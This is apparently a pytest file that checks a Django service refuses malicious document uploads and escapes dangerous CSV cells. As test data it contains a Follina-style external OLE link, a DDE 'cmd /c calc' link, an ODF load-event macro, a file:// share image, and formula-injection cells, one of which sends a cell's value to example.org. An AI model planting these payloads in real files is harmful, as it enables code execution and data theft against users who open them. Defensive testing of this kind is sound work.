"""Found by the uploads review of the private file handling: each test
failed on the code as reviewed."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from core import uploads
from core.tests import files

pytestmark = pytest.mark.django_db

DOCUMENTS = ["pdf", "docx", "odt", "xlsx"]
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _xlsx_with(extra: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(files.xlsx())) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    return files.zip_of({**entries, **extra})


def _docx_embedding(workbook: bytes) -> bytes:
    """A Word document with a chart whose data is this workbook, kept where
    Word keeps it (word/embeddings/Microsoft_Excel_Worksheet.xlsx)."""
    return files.zip_of(
        {**files.docx_entries(), "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook}
    )


FOLLINA_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="' + REL.encode() + b'oleObject"'
    b' Target="mhtml:http://example.org/x.html!x-usc:x" TargetMode="External"/></Relationships>'
)
DDE_LINK = (
    b'<?xml version="1.0"?><x xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>'
)


@pytest.mark.parametrize(
    "extra",
    [
        pytest.param({"xl/worksheets/_rels/sheet1.xml.rels": FOLLINA_RELS}, id="linked-ole"),
        pytest.param({"xl/externalLinks/externalLink1.xml": DDE_LINK}, id="dde-link"),
    ],
)
def test_embedded_chart_workbook_with_external_links_is_refused(extra):
    """The same workbook uploaded on its own is refused (LINKED); embedded in
    a .docx as a chart's data it is accepted, as _unsafe_package checks an
    embedded package for macros, bombs and OLE but not for external
    relationships (_relationship_refusal) or DDE/web links (_content_refusal).
    The workbook opens in Excel when the chart's data is edited."""
    workbook = _xlsx_with(extra)
    with pytest.raises(ValidationError):  # alone: refused, as it should be
        uploads.check_upload(files.upload("plan.xlsx", workbook), kinds=DOCUMENTS)
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(files.upload("plan.docx", _docx_embedding(workbook)), kinds=DOCUMENTS)
    assert error.value.messages in ([uploads.LINKED], [uploads.EMBEDDED])


ODF_OBJECT = (
    b'<?xml version="1.0"?><office:document-content'
    b' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    b' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    b' xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:drawing>%s'
    b"</office:drawing></office:body></office:document-content>"
)


@pytest.mark.parametrize(
    "body, message",
    [
        pytest.param(
            b'<office:event-listeners><script:event-listener script:event-name="dom:load"'
            b' xlink:href="vnd.sun.star.script:Tools.Debug.X?language=Basic"/>'
            b"</office:event-listeners>",
            uploads.MACROS,
            id="event-macro-in-embedded-object",
        ),
        pytest.param(
            b'<draw:image xlink:href="file://host/share/a.png"/>',
            uploads.LINKED,
            id="picture-on-a-share-in-embedded-object",
        ),
    ],
)
def test_odt_embedded_object_content_is_checked(body, message):
    """_odt_refusal reads only the top-level content.xml and styles.xml; an
    embedded object's own content ("Object 1/content.xml", a drawing or
    chart LibreOffice loads with the document) with an event macro or a
    picture on a share passes. The same markup in content.xml is refused."""
    content = files.odt(extra={"Object 1/content.xml": ODF_OBJECT % body})
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(files.upload("plan.odt", content), kinds=DOCUMENTS)
    assert error.value.messages == [message]


@pytest.mark.parametrize(
    "cell",
    [
        pytest.param(' =HYPERLINK("http://example.org/?"&A1,"x")', id="leading-space"),
        pytest.param("\u200b=cmd|' /C calc'!A0", id="zero-width-space"),
        pytest.param("\uff1dcmd|' /C calc'!A0", id="fullwidth-equals"),
    ],
)
def test_service_csv_defuses_what_the_upload_check_calls_a_formula(cell):
    """dashboard.csvio.safe_cell (the national exports, dashboard/export_files,
    and the action plan tracker CSV, whose response text a force lead types)
    escapes a cell only if its very first character is = + - @ tab or CR.
    core.csvcheck, the service's own judge of what acts in a spreadsheet,
    reads blanks, invisible characters and look-alikes (＝) before the
    formula too, and refuses the very CSV the service writes itself."""
    from core import csvcheck
    from dashboard.csvio import csv_lines

    text = "".join(csv_lines(["Action"], [[cell]]))
    assert csvcheck.formula_line(io.BytesIO(text.encode("utf-8"))) is None
